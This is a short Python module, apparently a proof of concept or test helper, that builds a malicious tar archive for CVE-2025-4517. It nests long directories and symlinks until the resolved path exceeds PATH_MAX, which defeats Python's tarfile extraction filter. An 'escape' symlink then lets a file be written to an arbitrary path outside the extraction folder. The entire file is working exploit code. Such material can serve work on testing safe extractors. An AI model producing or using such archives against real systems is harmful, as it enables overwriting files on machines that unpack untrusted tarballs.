"""The archive of CVE-2025-4517: a chain of links that Python's own check gives up on, and that leads out."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Iterable

Part = tuple[str, bytes, str, bytes]
"""Name, type, target of a link, content."""


def tar_of(parts: Iterable[Part]) -> bytes:
    """Return an archive of these members, whatever they are."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, target, content in parts:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size, member.mode = kind, target, len(content), 0o755
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def link_chain(out: str) -> list[Part]:
    """Return the members; a file `written` comes to `out`, as it is seen from the folder `tree` of the archive.

    The chain is longer than PATH_MAX when it is resolved.
    """
    parts: list[Part] = []
    long, steps, path = "d" * 240, "abcdefghijklmnop", "tree"
    for step in steps:
        parts += [(f"{path}/{long}", tarfile.DIRTYPE, "", b""), (f"{path}/{step}", tarfile.SYMTYPE, long, b"")]
        path = f"{path}/{long}"
    short = "/".join(["tree", *steps])
    parts.append((f"{short}/{'l' * 254}", tarfile.SYMTYPE, "../" * len(steps), b""))
    parts.append(("tree/escape", tarfile.SYMTYPE, f"{'/'.join(steps)}/{'l' * 254}/{out}", b""))
    return [*parts, ("tree/escape/written", tarfile.REGTYPE, "", b"x")]
